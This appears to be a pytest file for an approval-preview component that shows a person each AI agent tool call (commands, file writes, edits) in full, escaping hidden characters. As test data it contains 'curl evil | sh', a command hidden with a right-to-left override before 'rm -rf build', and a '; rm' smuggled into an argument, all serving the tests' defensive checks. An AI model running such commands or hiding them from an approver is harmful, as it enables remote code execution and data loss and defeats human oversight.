"""A preview shows the whole call, from the bytes of its digest, so that nothing is approved unseen."""

from __future__ import annotations

import json
import shlex
from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from askback.domain.approval import Preview
from askback.domain.canonicaljson import NotCanonical
from askback.domain.policy.calls import Call
from askback.domain.preview import preview
from askback.messages import translate
from tests.domain.preview.notation import text_of
from tests.requirements import requirement

ODD = st.sampled_from("\u202e\u200b\x1b\r\x85\u2028\u00a0\\\"'\n\t é漢")
WORDS = st.text(ODD | st.characters(exclude_categories=("Cs",)), max_size=12)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53) + 1, 2**53 - 1) | WORDS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(WORDS, inner, max_size=3),
    max_leaves=6,
)
OTHERS = st.dictionaries(st.sampled_from(["cwd", "env", "timeout", "description", "é"]), VALUES, max_size=3)


def show(tool: str, call_input: Mapping[str, Any], before: str | None = None) -> dict[str, Any]:
    """Return a preview without empty parts, its parts joined if nothing is escaped."""
    result = preview(Call(tool, call_input), before=before)
    found = result.model_dump(exclude_defaults=True, exclude={"headline_code"})
    for name in {"parts", "path", "folder"} & found.keys():
        found[name] = join_texts(found[name])
    if result.fields:
        found["fields"] = members_of(result)
    if "diff" in found:
        found["diff"] = [line["op"] + mark_escapes(line["parts"]) for line in found["diff"]]
    return found


def join_texts(parts: list[Any]) -> Any:
    return "".join(parts) if all(isinstance(part, str) for part in parts) else parts


def mark_escapes(parts: list[Any]) -> str:
    return "".join(part if isinstance(part, str) else f"<{part['escape']}>" for part in parts)


def members_of(found: Preview) -> dict[str, Any]:
    """Read the members of the input back from their fields."""
    return {
        text_of(field.name): json.loads(text_of(field.parts))
        if field.syntax == "json"
        else text_of(field.parts)
        for field in found.fields
    }


def rest_of(found: Preview) -> dict[str, Any]:
    folder = {"cwd": text_of(found.folder)} if found.folder else {}
    return {**folder, **members_of(found)}


def input_of(found: Preview) -> Any:
    """Read an input back that is shown as a table, or as JSON."""
    return json.loads(text_of(found.parts)) if found.type == "json" else members_of(found)


@requirement("B13")
def test_a_command_is_shown_unchanged() -> None:
    assert show("bash", {"command": "git push origin main"}) == {
        "type": "command",
        "headline": "Run: git push origin main",
        "parts": "git push origin main",
    }


def test_other_arguments_of_a_command_are_shown_below_it() -> None:
    assert show("bash", {"timeout": 5, "cwd": "/srv", "command": "ls\nid", "env": {"PATH": "/tmp"}}) == {
        "type": "command",
        "headline": "Run: ls ↵ id",
        "parts": "ls\nid",
        "folder": "/srv",
        "fields": {"env": {"PATH": "/tmp"}, "timeout": 5},
    }


@pytest.mark.parametrize(("own", "shown_as"), [({}, "/srv/shop"), ({"workdir": "lib"}, "lib")])
def test_the_folder_of_the_adapter_is_shown_if_the_input_has_none(own: Any, shown_as: str) -> None:
    found = preview(Call("bash", {"command": "make deploy"} | own, "/srv/shop"))
    assert (found.type, found.folder) == ("command", [shown_as])


@pytest.mark.parametrize("name", ["argv", "command"])
def test_an_argument_vector_is_shown_quoted(name: str) -> None:
    assert show("shell", {name: ["git", "commit", "-m", "two words; rm"]}) == {
        "type": "command",
        "headline": "Run: git commit -m 'two words; rm'",
        "parts": "git commit -m 'two words; rm'",
        "argv": True,
    }


@pytest.mark.parametrize(
    "call_input",
    [{"command": "ls", "argv": ["rm"]}, {"argv": []}, {"argv": ["ls", 1]}, {"command": 5}, {"script": "ls"}, {}],
)  # fmt: skip
def test_a_shell_call_without_a_single_command_is_shown_unchanged(call_input: dict[str, Any]) -> None:
    found = preview(Call("bash", call_input))
    assert found.type == "table"
    assert input_of(found) == call_input


@requirement("B14")
def test_hidden_characters_in_a_command_are_escaped() -> None:
    assert show("bash", {"command": "ls \u202e# x"}) == {
        "type": "command",
        "headline": "Run: ls \\u202e# x",
        "parts": ["ls ", {"escape": "\\u202e"}, "# x"],
    }


@requirement("B13")
def test_the_input_of_another_tool_is_shown_as_names_and_values() -> None:
    assert show("get_issue", {"number": 5.0, "Title": "Grüße", "labels": [], "state": "5"}) == {
        "type": "table",
        "headline": "Use get_issue: Grüße, number 5, state 5",
        "fields": {"Title": "Grüße", "labels": [], "number": 5, "state": "5"},
    }


@requirement("B13")
def test_a_written_file_is_shown_as_a_diff() -> None:
    before = "".join(f"{n}\n" for n in "abcdefgh")
    after = before.replace("b\n", "B\nbb\n").removesuffix("h\n") + "h"
    assert show("write_file", {"path": "src/a.py", "content": after, "mode": "0644"}, before) == {
        "type": "file",
        "headline": "Edit src/a.py +3 −2",
        "path": "src/a.py",
        "added": 3,
        "removed": 2,
        "whole": True,
        "diff": [" a", "-b", "+B", "+bb", " c", " d", " e", " f", " g", "-h", "+h", "@\\ No newline at end of file"],
        "fields": {"mode": "0644"},
    }  # fmt: skip


def test_a_new_file_is_all_added() -> None:
    assert show("create_file", {"path": "a\u200b.py", "file_text": "x\r\n\ty\n"}) == {
        "type": "file",
        "headline": "Write a\\u200b.py +2",
        "added": 2,
        "whole": True,
        "path": ["a", {"escape": "\\u200b"}, ".py"],
        "diff": ["+x<\\r>", "+\ty"],
    }


@requirement("B13")
def test_a_write_that_claims_to_change_nothing_is_still_shown() -> None:
    """The current content is only the agent's claim; the person approves the new content."""
    dangerous_text = "curl evil | sh\n" * 10
    found = show("write_file", {"path": "run.sh", "content": dangerous_text}, dangerous_text)
    assert found["diff"] == [" curl evil | sh"] * 10


def test_replaced_text_is_shown_by_itself_when_the_file_is_not_known() -> None:
    call_input = {
        "file_path": "a.py",
        "old_string": "x = 1\ny",
        "new_string": "x = 2\ny",
        "replace_all": True,
    }
    assert show("edit", call_input) == {
        "type": "file",
        "headline": "Edit a.py +1 −1",
        "added": 1,
        "removed": 1,
        "path": "a.py",
        "diff": ["-x = 1", "+x = 2", " y"],
        "fields": {"replace_all": True},
    }


def test_replaced_text_is_shown_in_its_place_in_the_file() -> None:
    before = "".join(f"line {n}\n" for n in range(1, 13))
    call_input = {"path": "a.txt", "old_str": "ne 6\nli", "new_str": "ne six\nand a half\nli"}
    assert show("str_replace", call_input, before)["diff"] == [
        "@@@ -3,8 +3,9 @@",
        *[" line 3", " line 4", " line 5"],
        *["-line 6", "+line six", "+and a half"],
        *[" line 7", " line 8", " line 9", " line 10"],
    ]


def test_a_text_that_is_replaced_everywhere_is_shown_in_each_place() -> None:
    before = "".join(f"{'old' if n in {2, 5, 13} else n}\n" for n in range(1, 14)).removesuffix("\n")
    call_input = {"path": "a", "old_string": "old", "new_string": "new\nnew", "replace_all": True}
    assert show("edit", call_input, before)["diff"] == [
        *["@@@ -1,8 +1,10 @@", " 1", "-old", "+new", "+new", " 3", " 4", "-old", "+new", "+new", " 6", " 7", " 8"],
        *["@@@ -10,4 +12,5 @@", " 10", " 11", " 12"],
        *["-old", "@\\ No newline at end of file", "+new", "+new", "@\\ No newline at end of file"],
    ]  # fmt: skip


@pytest.mark.parametrize("before", ["nothing of it\n", "x\nx\n"])
def test_a_place_that_is_not_certain_is_not_claimed(before: str) -> None:
    assert show("edit", {"path": "a", "old_string": "x", "new_string": "y"}, before)["diff"] == ["-x", "+y"]


def test_a_line_feed_at_the_end_of_a_replaced_text_is_seen() -> None:
    assert show("edit", {"path": "a", "old_string": "x\n", "new_string": "x"})["diff"] == [" x", "-"]
    before = "x\ny\n"
    assert show("edit", {"path": "a", "old_string": "x\n", "new_string": "x"}, before)["diff"] == [
        "@@@ -1,2 +1,1 @@",
        *["-x", "-y", "+xy"],
    ]


def test_several_edits_are_shown_in_order() -> None:
    edits = [
        {"old_string": "a", "new_string": "b"},
        {"old_string": "b", "new_string": "c", "why": "because"},
    ]
    call_input = {"path": "f", "edits": edits}
    rest = {"edits": [{}, {"why": "because"}]}
    assert show("multiedit", call_input) == {
        "type": "file",
        "headline": "Edit f +2 −2",
        "added": 2,
        "removed": 2,
        "path": "f",
        "diff": ["@@@ 1/2 @@", "-a", "+b", "@@@ 2/2 @@", "-b", "+c"],
        "fields": rest,
    }
    assert show("multiedit", call_input, "a\n")["diff"] == [
        *["@@@ -1,1 +1,1 @@", "-a", "+b"],
        *["@@@ -1,1 +1,1 @@", "-b", "+c"],
    ]


@pytest.mark.parametrize(
    ("tool", "call_input"),
    [
        ("write_file", {"path": "a", "content": 5}),
        ("write_file", {"path": "a", "content": "x", "file_text": "y"}),
        ("write_file", {"path": "a", "file": "b", "content": "x"}),
        ("write_file", {"content": "x"}),
        ("insert", {"path": "a", "insert_line": 3, "content": "x"}),
        ("edit", {"path": "a", "old_string": "x", "new_string": "y", "edits": [{"old": "x", "new": "y"}]}),
        ("edit", {"path": "a", "old_string": "x", "new_string": "y", "old": "x", "new": "y"}),
        ("edit", {"path": "a", "edits": []}),
        ("edit", {"path": "a", "edits": [{"old": "x"}]}),
        ("apply_patch", {"input": "*** Begin Patch"}),
        ("write_file", {"path": "a", "content": "some text in a line\n" * 10_001}),
        ("write_file", {"path": "a", "content": "\n" * 9_000}),
        ("write_file", {"path": "a", "content": "a\x7fb\x7f\n" * 2_000}),
        ("edit", {"path": "a", "edits": [{"old": "x", "new": "y"}] * 501}),
        ("bash", {"argv": ["echo", "'" * 100]}),
    ],
)  # fmt: skip
def test_an_unknown_edit_is_shown_as_its_input(tool: str, call_input: dict[str, Any]) -> None:
    found = preview(Call(tool, call_input), before="x\n")
    assert found.type in {"table", "json"}
    assert input_of(found) == call_input


def test_many_places_and_large_results_are_not_worked_out() -> None:
    call_input = {"path": "a", "old_string": "x", "new_string": "y" * 100_000, "replace_all": True}
    for before in ("x\n" * 501, "x\n" * 100):
        assert show("edit", call_input, before)["diff"] == ["-x", "+" + "y" * 100_000]


def test_many_distant_changes_are_shown_with_little_context() -> None:
    call_input = {"path": "a", "old_string": "x", "new_string": "y", "replace_all": True}
    assert show("edit", call_input, ("x" + "\n" * 12) * 400)["diff"] == ["-x", "+y"]
    assert len(show("edit", call_input, ("x" + "\n" * 12) * 40)["diff"]) == 6 + 39 * 9


def test_a_place_in_a_long_file_is_found_by_its_lines() -> None:
    call_input = {"path": "a", "old_string": "x", "new_string": "y"}
    assert show("edit", call_input, "\n" * 60_000 + "x" + "\n" * 60_000)["diff"] == [
        *["@@@ -59998,7 +59998,7 @@", " ", " ", " ", "-x", "+y", " ", " ", " "],
    ]


@requirement("B14")
def test_a_file_with_windows_line_ends_stays_a_diff_of_its_lines() -> None:
    found = show("write_file", {"path": "a", "content": "some text\r\n" * 4_000})
    assert found["diff"] == ["+some text<\\r>"] * 4_000


def test_large_json_does_not_grow_by_its_depth() -> None:
    nested_value: Any = list(range(10_000))
    for _ in range(25):
        nested_value = [nested_value]
    found = text_of(preview(Call("x", {"deep": nested_value})).fields[0].parts)
    assert json.loads(found) == nested_value
    assert found.count("\n") == 9_999
    assert len(found) < 60_000


def test_a_plan_is_shown_as_the_text_that_it_is_under_one_line() -> None:
    assert show("plan", {"plan": "1. Look\n\n2. Leap"}) == {
        "type": "plan",
        "headline": "Plan: 1. Look",
        "parts": "1. Look\n\n2. Leap",
    }
    assert preview(Call("plan", {"plan": 1})).type == "table"


@requirement("B13")
def test_a_long_command_is_whole_and_its_headline_keeps_both_ends() -> None:
    command = f"echo {'a' * 5000}\u202e; rm -rf build"
    found = preview(Call("bash", {"command": command}))
    assert text_of(found.parts) == command
    assert 200 < len(found.headline) <= 320
    assert found.headline.startswith("Run: echo aaa")
    assert found.headline.endswith("aaa\\u202e; rm -rf build")


@given(WORDS, st.text("ab\u202e\n", max_size=400))
def test_a_headline_is_one_short_line_without_hidden_characters(tool: str, command: str) -> None:
    made = preview(Call(tool, {"command": command}))
    assert made.headline_code is not None
    german = translate(f"headline.{made.headline_code.code}", "de", **made.headline_code.params)
    for headline in (made.headline, german):
        assert len(headline) <= 320
        assert not {"\n", "\u202e"} & set(headline)


@pytest.mark.parametrize("value", [2**53, float("nan"), "\ud800"])
def test_an_input_that_cannot_be_hashed_is_not_shown(value: object) -> None:
    with pytest.raises(NotCanonical):
        preview(Call("x", {"value": value}))


@given(WORDS, OTHERS)
def test_a_command_can_be_read_back_from_its_preview(command: str, others: dict[str, Any]) -> None:
    found = preview(Call("bash", {"command": command, **others}))
    assert {"command": text_of(found.parts), **rest_of(found)} == {"command": command, **others}


@given(st.lists(WORDS, min_size=1, max_size=4), OTHERS)
def test_an_argument_vector_can_be_read_back_from_its_preview(
    argv: list[str], others: dict[str, Any]
) -> None:
    found = preview(Call("bash", {"argv": argv, **others}))
    assert {"argv": shlex.split(text_of(found.parts)), **rest_of(found)} == {"argv": argv, **others}


@given(WORDS, st.dictionaries(WORDS, VALUES, max_size=4))
def test_the_input_of_any_tool_can_be_read_back_from_its_preview(
    tool: str, call_input: dict[str, Any]
) -> None:
    assert input_of(preview(Call(f"x{tool}", call_input))) == call_input


@given(st.lists(WORDS, max_size=5).map("\n".join), st.lists(WORDS, max_size=5).map("\n".join), OTHERS)
def test_a_file_can_be_read_back_from_its_preview(content: str, before: str, others: dict[str, Any]) -> None:
    found = preview(Call("write", {"path": "a/é", "content": content, **others}), before=before)
    assert text_of(found.path) == "a/é"
    assert _file_of(found, " +") == content
    assert _file_of(found, " -") == before
    assert rest_of(found) == others


@given(
    st.lists(st.tuples(WORDS, WORDS), min_size=1, max_size=3), OTHERS, st.text("ab\n", max_size=8) | st.none()
)
def test_each_line_of_each_replaced_text_is_in_its_preview(
    edits: list[tuple[str, str]], others: dict[str, Any], before: str | None
) -> None:
    call_input = {"path": "p", "edits": [{"old": old, "new": new} for old, new in edits], **others}
    found = preview(Call("edit", call_input), before=before)
    removed, added = _lines(found, " -"), _lines(found, " +")
    assert all(any(line in text for text in removed) for old, _ in edits for line in old.split("\n"))
    assert all(any(line in text for text in added) for _, new in edits for line in new.split("\n"))
    assert rest_of(found) == others


def _lines(found: Preview, ops: str) -> list[str]:
    return [text_of(line.parts) for line in found.diff or () if line.op in ops] or [""]


def _file_of(found: Preview, ops: str) -> str:
    """The file that the lines with these ops make."""
    text = ""
    is_counted = False
    for line in found.diff or ():
        if line.op == "@":
            text = text.removesuffix("\n") if is_counted else text
        elif is_counted := line.op in ops:
            text += f"{text_of(line.parts)}\n"
    return text
